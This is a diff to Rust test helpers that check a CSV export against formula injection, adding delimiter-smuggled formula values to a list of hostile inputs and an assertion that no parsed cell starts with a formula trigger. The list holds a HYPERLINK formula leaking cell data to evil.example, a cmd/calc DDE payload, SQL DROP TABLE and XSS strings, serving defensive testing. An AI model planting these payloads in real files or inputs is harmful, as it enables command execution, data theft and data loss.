@@ -15,7 +15,7 @@ pub(crate) const DAY: i64 = 24 * 60 * 60 * 1000;
 pub(crate) const NOW: Timestamp = Timestamp(1_800_000_000_000);
 
 /// Names, all of them valid, that mean something in some kind of file.
-pub(crate) const HOSTILE: [&str; 24] = [
+pub(crate) const HOSTILE: [&str; 29] = [
     "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
     "+1+cmd|' /C calc'!A0",
     "-2+3",
@@ -25,6 +25,11 @@ pub(crate) const HOSTILE: [&str; 24] = [
     "''",
     "\"; DROP TABLE access_key; --",
     "a,b;c\\d",
+    "x;=cmd|'/C calc'!A0;y",
+    "x;\"=1+1\"",
+    "\";=1+1;\"",
+    "; @SUM(1,1)",
+    "x;'=quoted",
     "<script>alert(1)</script>",
     "</td></table><img src=x onerror=alert(1)>",
     "&lt;b&gt; &amp; &#x27;",
@@ -101,6 +106,37 @@ pub(crate) fn written(write: impl FnOnce(&mut dyn Write) -> io::Result<()>) -> S
     let mut out = Vec::new();
     write(&mut out).unwrap();
     String::from_utf8(out).unwrap()
+}
+
+/// The cells of a sheet, as a reader sees them that divides rows here.
+pub(crate) fn cells(sheet: &str, delimiter: u8) -> Vec<Vec<String>> {
+    let reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .flexible(true)
+        .delimiter(delimiter)
+        .from_reader(sheet.as_bytes());
+    let rows = reader.into_records().map(Result::unwrap);
+    rows.map(|row| row.iter().map(str::to_owned).collect())
+        .collect()
+}
+
+/// No cell is a formula, wherever a reader divides rows.
+pub(crate) fn assert_holds_no_formula(sheet: &str) {
+    for delimiter in [b',', b';', b'\t'] {
+        for cell in cells(sheet, delimiter).iter().flatten() {
+            let danger = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t', '\r'];
+            let begins = cell.trim_start_matches([' ', '"']);
+            assert!(!begins.starts_with(danger), "{cell:?} in {sheet}");
+        }
+    }
+}
+
+/// A text as it was before it was written into a cell.
+pub(crate) fn as_it_was(cell: &str) -> String {
+    let pieces = cell.split_inclusive([';', '\t', '\r', '\n']);
+    pieces
+        .map(|piece| piece.strip_prefix('\'').unwrap_or(piece))
+        .collect()
 }
 
 /// A disk with room for so many bytes.
